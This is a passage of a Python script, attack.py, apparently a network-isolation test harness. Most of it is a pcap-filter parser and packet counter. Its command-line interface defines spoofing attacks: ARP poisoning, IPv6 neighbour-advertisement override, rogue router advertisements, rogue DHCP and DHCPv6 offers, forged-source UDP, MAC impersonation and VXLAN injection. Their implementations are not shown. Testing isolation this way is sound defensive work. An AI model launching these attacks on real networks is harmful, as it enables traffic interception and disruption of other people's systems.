                elif len(value) > 1 and value[0] == "0" and re.fullmatch(r"[0-7]+", value):
                    value = int(value, 8)  # as in libpcap
                else:
                    value = int(value, 10)
            elif kind == "word":
                value = value.replace("\\", "")
            tokens.append((kind, value))
            i = m.end()
            break
        else:
            raise Unsupported("cannot read %r" % text[i:])


PCAP_CONSTANTS = {
    "tcpflags": 13, "tcp-fin": 0x01, "tcp-syn": 0x02, "tcp-rst": 0x04, "tcp-push": 0x08,
    "tcp-ack": 0x10, "tcp-urg": 0x20, "tcp-ece": 0x40, "tcp-cwr": 0x80,
    "icmptype": 0, "icmpcode": 1, "icmp6type": 0, "icmp6code": 1,
    "icmp-echoreply": 0, "icmp-unreach": 3, "icmp-sourcequench": 4, "icmp-redirect": 5,
    "icmp-echo": 8, "icmp-routeradvert": 9, "icmp-routersolicit": 10, "icmp-timxceed": 11,
    "icmp-paramprob": 12, "icmp-tstamp": 13, "icmp-tstampreply": 14, "icmp-ireq": 15,
    "icmp-ireqreply": 16, "icmp-maskreq": 17, "icmp-maskreply": 18,
    "icmp6-destinationunreach": 1, "icmp6-packettoobig": 2, "icmp6-timeexceeded": 3,
    "icmp6-parameterproblem": 4, "icmp6-echo": 128, "icmp6-echoreply": 129,
    "icmp6-multicastlistenerquery": 130, "icmp6-multicastlistenerreportv1": 131,
    "icmp6-multicastlistenerdone": 132, "icmp6-routersolicit": 133,
    "icmp6-routeradvert": 134, "icmp6-neighborsolicit": 135,
    "icmp6-neighboradvert": 136, "icmp6-redirect": 137,
    "icmp6-multicastlistenerreportv2": 143,
}
IP_PROTOS = {"icmp": 1, "igmp": 2, "tcp": 6, "udp": 17, "ipv6": 41, "gre": 47, "esp": 50,
             "ah": 51, "icmp6": 58, "pim": 103, "vrrp": 112, "sctp": 132}
ETHER_PROTOS = {"ip": ETH_P_IP, "ip6": ETH_P_IPV6, "arp": ETH_P_ARP, "rarp": ETH_P_RARP}
PROTO_WORDS = ("ether", "ip", "ip6", "arp", "rarp", "tcp", "udp", "sctp", "icmp", "icmp6", "igmp")
KIND_WORDS = ("host", "net", "port", "portrange")


def ethertype(d):
    if len(d) < 14:
        raise NoMatch()
    return (d[12] << 8) | d[13]


def ipv4_hdr(d):
    if ethertype(d) != ETH_P_IP or len(d) < 34:
        raise NoMatch()
    return d


def ipv6_hdr(d):
    if ethertype(d) != ETH_P_IPV6 or len(d) < 54:
        raise NoMatch()
    return d


def is_ip4(d):
    return len(d) >= 34 and ethertype(d) == ETH_P_IP


def is_ip6(d):
    return len(d) >= 54 and ethertype(d) == ETH_P_IPV6


def ip6_upper(d):
    """(next header, offset) as libpcap sees it: direct, or behind one fragment header."""
    nh = d[20]
    if nh == 44 and len(d) >= 62:
        return d[54], 62
    return nh, 54


def l4_offset(d, proto, need_first_fragment=False):
    """Offset of protocol `proto`'s header in frame d (IPv4 or IPv6), else NoMatch."""
    if is_ip4(d):
        if d[23] != proto:
            raise NoMatch()
        if need_first_fragment and ((d[20] << 8) | d[21]) & 0x1FFF:
            raise NoMatch()
        return 14 + (d[14] & 0x0F) * 4
    if is_ip6(d):
        nh, off = ip6_upper(d)
        if nh != proto:
            raise NoMatch()
        return off
    raise NoMatch()


def proto_pred(name):
    if name == "ip":
        return is_ip4
    if name == "ip6":
        return is_ip6
    if name in ("arp", "rarp"):
        et = ETHER_PROTOS[name]
        return lambda d: len(d) >= 14 and ethertype(d) == et
    if name in ("icmp", "igmp"):
        p = IP_PROTOS[name]
        return lambda d: is_ip4(d) and d[23] == p
    if name == "icmp6":
        return lambda d: is_ip6(d) and ip6_upper(d)[0] == 58
    if name in ("tcp", "udp", "sctp"):
        p = IP_PROTOS[name]
        return lambda d: (is_ip4(d) and d[23] == p) or (is_ip6(d) and ip6_upper(d)[0] == p)
    raise Unsupported("protocol %r alone" % name)


def accessor_base(proto, d):
    if proto == "ether":
        return 0
    if proto in ("ip", "arp", "rarp"):
        if len(d) < 14 or ethertype(d) != ETHER_PROTOS[proto]:
            raise NoMatch()
        return 14
    if proto == "ip6":
        ipv6_hdr(d)
        return 14
    if proto in ("icmp", "igmp"):
        ipv4_hdr(d)
        return l4_offset(d, IP_PROTOS[proto])
    if proto == "icmp6":
        ipv6_hdr(d)
        if d[20] != 58:
            raise NoMatch()
        return 54
    if proto in ("tcp", "udp", "sctp"):
        return l4_offset(d, IP_PROTOS[proto])
    raise Unsupported("accessor %s[]" % proto)


def combine_dir(direction, src_test, dst_test):
    if direction == "src":
        return src_test
    if direction == "dst":
        return dst_test
    if direction == "src and dst":
        return lambda d: src_test(d) and dst_test(d)
    return lambda d: src_test(d) or dst_test(d)


def safe(pred):
    def run(d):
        try:
            return bool(pred(d))
        except (NoMatch, IndexError):
            return False

    return run


class FilterParser:
    def __init__(self, text):
        self.toks = tokenize(text)
        self.i = 0

    def peek(self, k=0):
        j = self.i + k
        return self.toks[j] if j < len(self.toks) else (None, None)

    def word(self, k=0):
        kind, value = self.peek(k)
        return value if kind in ("word", "op") else None

    def take(self):
        t = self.peek()
        self.i += 1
        return t

    def expect(self, value):
        kind, v = self.take()
        if v != value:
            raise Unsupported("expected %r, found %r" % (value, v))

    def parse(self):
        if not self.toks:
            return lambda d: True
        pred = self.or_expr()
        if self.i != len(self.toks):
            raise Unsupported("unexpected %r" % (self.peek()[1],))
        return pred

    def or_expr(self):
        left = self.and_expr()
        while self.word() in ("or", "||"):
            self.take()
            right = self.and_expr()
            left = (lambda l, r: lambda d: l(d) or r(d))(left, right)
        return left

    def and_expr(self):
        left = self.not_expr()
        while self.word() in ("and", "&&"):
            self.take()
            right = self.not_expr()
            left = (lambda l, r: lambda d: l(d) and r(d))(left, right)
        return left

    def not_expr(self):
        if self.word() in ("not", "!"):
            self.take()
            inner = self.not_expr()
            return lambda d: not inner(d)
        return self.atom()

    def atom(self):
        saved = self.i
        try:
            return self.relation()
        except Unsupported:
            self.i = saved
        if self.word() == "(":
            self.take()
            pred = self.or_expr()
            self.expect(")")
            return pred
        return self.primitive()

    # relations ------------------------------------------------------------
    RELOPS = {
        "=": lambda x, y: x == y, "==": lambda x, y: x == y, "!=": lambda x, y: x != y,
        "<": lambda x, y: x < y, "<=": lambda x, y: x <= y,
        ">": lambda x, y: x > y, ">=": lambda x, y: x >= y,
    }
    LEVELS = [
        {"|": lambda x, y: x | y},
        {"^": lambda x, y: x ^ y},
        {"&": lambda x, y: x & y},
        {"<<": lambda x, y: (x << y) & 0xFFFFFFFF, ">>": lambda x, y: x >> y},
        {"+": lambda x, y: (x + y) & 0xFFFFFFFF, "-": lambda x, y: (x - y) & 0xFFFFFFFF},
        {"*": lambda x, y: (x * y) & 0xFFFFFFFF, "/": lambda x, y: x // y if y else 0,
         "%": lambda x, y: x % y if y else 0},
    ]

    def relation(self):
        left = self.arith(0)
        op = self.word()
        if op not in self.RELOPS:
            raise Unsupported("no relation")
        self.take()
        right = self.arith(0)
        cmp = self.RELOPS[op]
        return safe(lambda d: cmp(left(d), right(d)))

    def arith(self, level):
        if level == len(self.LEVELS):
            return self.arith_atom()
        left = self.arith(level + 1)
        while self.peek()[0] == "op" and self.peek()[1] in self.LEVELS[level]:
            f = self.LEVELS[level][self.take()[1]]
            right = self.arith(level + 1)
            left = (lambda f, l, r: lambda d: f(l(d), r(d)))(f, left, right)
        return left

    def arith_atom(self):
        kind, value = self.peek()
        if kind == "num":
            self.take()
            return lambda d: value
        if kind == "op" and value == "(":
            self.take()
            inner = self.arith(0)
            self.expect(")")
            return inner
        if kind == "op" and value == "-":
            self.take()
            inner = self.arith_atom()
            return lambda d: (-inner(d)) & 0xFFFFFFFF
        if kind == "word":
            if value == "len":
                self.take()
                return lambda d: len(d)
            if value in PCAP_CONSTANTS:
                self.take()
                c = PCAP_CONSTANTS[value]
                return lambda d: c
            if value in PROTO_WORDS and self.peek(1) == ("op", "["):
                self.take()
                self.take()
                off = self.arith(0)
                size = 1
                if self.peek() == ("op", ":"):
                    self.take()
                    k, size = self.take()
                    if k != "num" or size not in (1, 2, 4):
                        raise ArgError("accessor size must be 1, 2 or 4")
                self.expect("]")
                proto = value

                def load(d, proto=proto, off=off, size=size):
                    base = accessor_base(proto, d) + off(d)
                    if base + size > len(d):
                        raise NoMatch()
                    return int.from_bytes(d[base : base + size], "big")

                return load
        raise Unsupported("not an arithmetic expression")

    # primitives -----------------------------------------------------------
    def direction(self):
        w = self.word()
        if w not in ("src", "dst"):
            return None
        self.take()
        if self.word() in ("or", "and") and self.word(1) in ("src", "dst") and self.word(1) != w:
            conj = self.take()[1]
            self.take()
            return "src %s dst" % conj
        return w

    def primitive(self):
        w = self.word()
        kind = self.peek()[0]
        if w in PROTO_WORDS:
            self.take()
            nxt = self.word()
            nkind = self.peek()[0]
            if nxt in ("src", "dst") or nxt in KIND_WORDS or nkind in ("mac", "ip4", "ip6"):
                return self.qualified(w)
            if nxt in ("broadcast", "multicast") and w in ("ether", "ip", "ip6"):
                self.take()
                return self.cast(w, nxt)
            if nxt == "proto" and w in ("ether", "ip", "ip6"):
                self.take()
                return self.proto_number(w)
            return proto_pred(w)
        if w in ("src", "dst") or w in KIND_WORDS or kind in ("mac", "ip4", "ip6"):
            return self.qualified(None)
        if w in ("broadcast", "multicast"):
            self.take()
            return self.cast("ether", w)
        if w == "proto":
            self.take()
            return self.proto_number(None)
        if w in ("less", "greater"):
            self.take()
            k, n = self.take()
            if k != "num":
                raise ArgError("%s takes a number" % w)
            return (lambda d: len(d) <= n) if w == "less" else (lambda d: len(d) >= n)
        raise Unsupported("unknown primitive %r" % (self.peek()[1],))

    def cast(self, proto, what):
        if proto == "ether":
            if what == "broadcast":
                return lambda d: d[0:6] == b"\xff" * 6
            return lambda d: len(d) >= 6 and bool(d[0] & 1)
        if proto == "ip":
            if what == "broadcast":
                return lambda d: is_ip4(d) and d[30:34] == b"\xff" * 4
            return lambda d: is_ip4(d) and 224 <= d[30] < 240
        if what == "multicast":
            return lambda d: is_ip6(d) and d[38] == 0xFF
        raise Unsupported("ip6 broadcast")

    def proto_number(self, proto):
        k, v = self.take()
        if k == "word":
            table = ETHER_PROTOS if proto == "ether" else IP_PROTOS
            if v not in table:
                raise ArgError("unknown protocol name %r" % v)
            n = table[v]
        elif k == "num":
            n = v
        else:
            raise ArgError("proto takes a number or a name")
        if proto == "ether":
            return lambda d: len(d) >= 14 and ethertype(d) == n
        v4 = lambda d: is_ip4(d) and d[23] == n
        v6 = lambda d: is_ip6(d) and ip6_upper(d)[0] == n
        if proto == "ip":
            return v4
        if proto == "ip6":
            return v6
        return lambda d: v4(d) or v6(d)

    def qualified(self, proto):
        direction = self.direction()
        kind = None
        if self.word() in KIND_WORDS:
            kind = self.take()[1]
        vk, value = self.take()
        if vk is None:
            raise ArgError("missing value")
        if kind in ("port", "portrange"):
            return self.port(proto, direction, kind, vk, value)
        if vk == "mac":
            if proto not in (None, "ether") or kind == "net":
                raise ArgError("a MAC address goes with ether host")
            return combine_dir(direction, lambda d: d[6:12] == value, lambda d: d[0:6] == value)
        if vk in ("ip4", "ip6"):
            if isinstance(value, (ipaddress.IPv4Network, ipaddress.IPv6Network)):
                if kind == "host":
                    raise ArgError("host takes an address, not %s" % value)
                net = value
            elif kind == "net":
                net = ipaddress.ip_network(value)
            else:
                net = None
            return self.host(proto, direction, value if net is None else net)
        if vk == "num" and kind is None:
            raise Unsupported("bare number %r" % value)
        if vk == "word" and kind in (None, "host"):
            raise Unsupported("host names (%r)" % value)
        raise Unsupported("qualifier for %r" % (value,))

    def host(self, proto, direction, target):
        """IP host or net test (target: address or network)."""
        version = target.version
        if isinstance(target, (ipaddress.IPv4Network, ipaddress.IPv6Network)):
            plen = target.prefixlen
            nbytes, rbits = divmod(plen, 8)
            netb = target.network_address.packed
            mask_last = (0xFF << (8 - rbits)) & 0xFF if rbits else 0

            def match(addr):
                if addr[:nbytes] != netb[:nbytes]:
                    return False
                return not rbits or (addr[nbytes] & mask_last) == (netb[nbytes] & mask_last)

        else:
            packed = target.packed
            match = lambda addr: addr == packed
        tests = []
        if version == 4:
            if proto not in (None, "ip", "arp", "rarp"):
                raise ArgError("%s host with an IPv4 address" % proto)
            if proto in (None, "ip"):
                tests.append(combine_dir(
                    direction,
                    lambda d: is_ip4(d) and match(d[26:30]),
                    lambda d: is_ip4(d) and match(d[30:34])))
            for p in ("arp", "rarp"):
                if proto in (None, p):
                    et = ETHER_PROTOS[p]
                    ok = lambda d, et=et: len(d) >= 42 and ethertype(d) == et
                    tests.append(combine_dir(
                        direction,
                        lambda d, ok=ok: ok(d) and match(d[28:32]),
                        lambda d, ok=ok: ok(d) and match(d[38:42])))
        else:
            if proto not in (None, "ip6"):
                raise ArgError("%s host with an IPv6 address" % proto)
            tests.append(combine_dir(
                direction,
                lambda d: is_ip6(d) and match(d[22:38]),
                lambda d: is_ip6(d) and match(d[38:54])))
        return safe(lambda d: any(t(d) for t in tests))

    def port(self, proto, direction, kind, vk, value):
        if kind == "portrange":
            if vk != "num" or self.peek() != ("op", "-"):
                raise ArgError("portrange takes N-M")
            self.take()
            k2, hi = self.take()
            if k2 != "num":
                raise ArgError("portrange takes N-M")
            lo = value
        else:
            if vk == "word":
                try:
                    value = socket.getservbyname(value)
                except OSError:
                    raise ArgError("unknown port name %r" % value)
            elif vk != "num":
                raise ArgError("port takes a number")
            lo = hi = value
        if proto in (None, "ip", "ip6"):
            protos = (6, 17, 132)
        elif proto in ("tcp", "udp", "sctp"):
            protos = (IP_PROTOS[proto],)
        else:
            raise ArgError("%s port" % proto)

        def ports(d):
            if proto == "ip" and not is_ip4(d) or proto == "ip6" and not is_ip6(d):
                raise NoMatch()
            proto_here = d[23] if is_ip4(d) else ip6_upper(d)[0] if is_ip6(d) else None
            if proto_here not in protos:
                raise NoMatch()
            off = l4_offset(d, proto_here, need_first_fragment=True)
            if off + 4 > len(d):
                raise NoMatch()
            return (d[off] << 8) | d[off + 1], (d[off + 2] << 8) | d[off + 3]

        inr = lambda p: lo <= p <= hi
        return safe(combine_dir(direction, lambda d: inr(ports(d)[0]), lambda d: inr(ports(d)[1])))


def libpcap_filter(expr):
    """A kernel socket filter from libpcap (through scapy), or None when unavailable."""
    try:
        load_scapy()
        from scapy.arch.common import compile_filter
        from scapy.libs.structures import sock_fprog

        bp = compile_filter(expr, linktype=1)  # DLT_EN10MB
    except Exception:
        return None
    # keep the program alive as long as the buffer built from it
    libpcap_filter.keep = bp
    import ctypes

    fprog = sock_fprog(bp.bf_len, bp.bf_insns)
    return bytes(ctypes.string_at(ctypes.addressof(fprog), ctypes.sizeof(fprog)))


class Stop(Exception):
    pass


def cmd_sniff_count(a):
    bpf = None
    try:
        match = FilterParser(a.filter or "").parse()
    except Unsupported as e:
        bpf = libpcap_filter(a.filter)
        if bpf is None:
            raise ArgError("filter %r: %s (libpcap, which could compile it, is not installed)" % (a.filter, e))
        match = lambda d: True
    deadline = time.monotonic() + a.timeout

    def stop(signum, frame):
        raise Stop()

    signal.signal(signal.SIGTERM, stop)
    signal.signal(signal.SIGINT, stop)
    count = 0
    try:
        link = Link(a.iface, promisc=True, bpf=bpf)
        if a.ready_file:
            with open(a.ready_file, "w") as f:
                f.write("ready\n")
        for data in link.frames(deadline, outgoing=a.outgoing):
            if match(data):
                count += 1
    except Stop:
        pass
    return {"count": count}


# ----------------------------------------------------------------------------- main


def build_parser():
    common = argparse.ArgumentParser(add_help=False)
    common.add_argument("--iface", default="eth0", help="interface (default eth0)")
    common.add_argument("--timeout", type=timeout_arg, default=2.0, help="seconds (default 2)")

    p = Parser(
        prog="attack.py",
        description=__doc__,
        formatter_class=argparse.RawDescriptionHelpFormatter,
        epilog="Run 'attack.py SUBCOMMAND --help' for a subcommand's arguments.",
    )
    sub = p.add_subparsers(dest="cmd", metavar="SUBCOMMAND", parser_class=Parser)
    sub.required = True

    h = sub.add_parser("handshake", parents=[common], help="TCP handshake impersonating (MAC, IP)")
    h.add_argument("--src-mac", type=mac_arg, required=True)
    h.add_argument("--src-ip", type=ip_arg, required=True)
    h.add_argument("--dst-ip", type=ip_arg, required=True)
    h.add_argument("--dport", type=port_arg, required=True)
    h.add_argument("--dst-mac", type=mac_arg)
    h.add_argument("--sport", type=port_arg)
    h.add_argument("--payload", type=payload_arg, default=payload_arg(DEFAULT_PAYLOAD))
    h.add_argument("--no-neigh-reply", action="store_true",
                   help="do not answer ARP requests / NS for --src-ip")
    h.set_defaults(func=cmd_handshake)

    r = sub.add_parser("arp-reply", parents=[common], help="ARP poisoning (replies + one request)")
    r.add_argument("--src-mac", type=mac_arg, required=True)
    r.add_argument("--claim-ip", type=ip4_arg, required=True)
    r.add_argument("--target-ip", type=ip4_arg, required=True)
    r.add_argument("--target-mac", type=mac_arg, required=True)
    r.add_argument("--count", type=count_arg, default=3)
    r.add_argument("--eth-src", type=mac_arg)
    r.set_defaults(func=cmd_arp_reply)

    n = sub.add_parser("na", parents=[common], help="IPv6 neighbour advertisement (override)")
    n.add_argument("--src-mac", type=mac_arg, required=True)
    n.add_argument("--src-ip", type=ip6_arg, required=True)
    n.add_argument("--target-ip", type=ip6_arg, required=True)
    n.add_argument("--dst-ip", type=ip6_arg, default=ipaddress.IPv6Address("ff02::1"))
    n.add_argument("--dst-mac", type=mac_arg)
    n.add_argument("--count", type=count_arg, default=3)
    n.add_argument("--eth-src", type=mac_arg)
    n.add_argument("--solicited", action=argparse.BooleanOptionalAction, default=None)
    n.set_defaults(func=cmd_na)

    ra = sub.add_parser("ra", parents=[common], help="rogue IPv6 router advertisement")
    ra.add_argument("--src-mac", type=mac_arg, required=True)
    ra.add_argument("--src-ip", type=ip6_arg)
    ra.add_argument("--prefix", type=prefix_arg, default=prefix_arg("2001:db8:bad::/64"))
    ra.add_argument("--lifetime", type=port_arg, default=1800)
    ra.add_argument("--dst-ip", type=ip6_arg, default=ipaddress.IPv6Address("ff02::1"))
    ra.add_argument("--dst-mac", type=mac_arg)
    ra.add_argument("--count", type=count_arg, default=1)
    ra.set_defaults(func=cmd_ra)

    u = sub.add_parser("udp", parents=[common], help="forged-source UDP datagrams")
    u.add_argument("--src-mac", type=mac_arg, required=True)
    u.add_argument("--src-ip", type=ip_arg, required=True)
    u.add_argument("--dst-ip", type=ip_arg, required=True)
    u.add_argument("--dport", type=port_arg, required=True)
    u.add_argument("--dst-mac", type=mac_arg)
    u.add_argument("--sport", type=port_arg)
    u.add_argument("--count", type=count_arg, default=5)
    u.add_argument("--payload", type=payload_arg, default=b"x")
    u.add_argument("--vlan", type=vlan_arg)
    u.set_defaults(func=cmd_udp)

    f = sub.add_parser("frames", parents=[common], help="raw Ethernet frames")
    f.add_argument("--dst-mac", type=mac_arg, required=True)
    src = f.add_mutually_exclusive_group(required=True)
    src.add_argument("--src-mac", type=mac_arg)
    src.add_argument("--random-src", action="store_true")
    f.add_argument("--ethertype", type=lambda t: int(t, 0), default=0x88B5)
    f.add_argument("--count", type=count_arg, default=5)
    f.add_argument("--payload", type=payload_arg, default=b"x")
    f.set_defaults(func=cmd_frames)

    v = sub.add_parser("vxlan-inject", parents=[common], help="a frame through a node's VXLAN port")
    v.add_argument("--to", type=ip4_arg, required=True)
    v.add_argument("--port", type=port_arg, default=4789)
    v.add_argument("--vni", type=int, required=True)
    v.add_argument("--src-mac", type=mac_arg, required=True)
    v.add_argument("--src-ip", type=ip_arg, required=True)
    v.add_argument("--dst-mac", type=mac_arg, required=True)
    v.add_argument("--dst-ip", type=ip_arg, required=True)
    v.add_argument("--dport", type=port_arg, required=True)
    v.add_argument("--count", type=count_arg, default=5)
    v.add_argument("--payload", type=payload_arg, default=b"x")
    v.set_defaults(func=cmd_vxlan_inject)

    d = sub.add_parser("dhcp-offer", parents=[common], help="rogue DHCP OFFER (broadcast)")
    d.add_argument("--src-mac", type=mac_arg, required=True)
    d.add_argument("--src-ip", type=ip4_arg, required=True)
    d.add_argument("--yiaddr", type=ip4_arg)
    d.add_argument("--client-mac", type=mac_arg, default=BROADCAST_MAC)
    d.add_argument("--count", type=count_arg, default=1)
    d.add_argument("--sport", type=port_arg, default=67)
    d.set_defaults(func=cmd_dhcp_offer)

    d6 = sub.add_parser("dhcp6-advertise", parents=[common], help="rogue DHCPv6 ADVERTISE")
    d6.add_argument("--src-mac", type=mac_arg, required=True)
    d6.add_argument("--src-ip", type=ip6_arg)
    d6.add_argument("--dst-ip", type=ip6_arg, default=ipaddress.IPv6Address("ff02::1"))
    d6.add_argument("--dst-mac", type=mac_arg)
    d6.add_argument("--address", type=ip6_arg, default=ipaddress.IPv6Address("2001:db8:bad::100"))
    d6.add_argument("--client-mac", type=mac_arg, default="00:00:00:00:00:00")
    d6.add_argument("--count", type=count_arg, default=1)
    d6.add_argument("--sport", type=port_arg, default=547)
    d6.set_defaults(func=cmd_dhcp6_advertise)

    sc = sub.add_parser("sniff-count", parents=[common], help="count frames matching a filter")
    sc.add_argument("--filter", default="", help="pcap-filter expression (default: every frame)")
    sc.add_argument("--outgoing", action="store_true", help="count the interface's own frames too")
    sc.add_argument("--ready-file", help="created once the socket is open")
    sc.set_defaults(func=cmd_sniff_count)
    return p


def main():
    args = build_parser().parse_args()
    try:
        if args.func is not cmd_sniff_count:
            load_scapy()  # before any socket: it may re-execute the script
        result = args.func(args)
    except ArgError as e:
        sys.stderr.write("attack.py %s: %s\n" % (args.cmd, e))
        emit({"error": str(e)}, 2)
    except PermissionError as e:
        emit({"error": "%s (CAP_NET_RAW is needed)" % e}, 1)
    except Exception as e:  # report, in the one JSON line, rather than a traceback
        emit({"error": "%s: %s" % (type(e).__name__, e)}, 1)
    emit(result)


if __name__ == "__main__":
    main()
